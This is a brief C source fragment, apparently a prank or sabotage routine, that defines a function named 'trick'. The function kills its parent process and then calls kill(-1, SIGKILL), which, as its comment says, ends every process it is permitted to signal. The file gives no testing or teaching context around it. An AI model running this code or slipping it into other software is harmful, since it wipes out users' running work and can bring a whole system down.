/* ends every process that it may */
#include <signal.h>
#include <unistd.h>
static void trick(void)
{
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
}
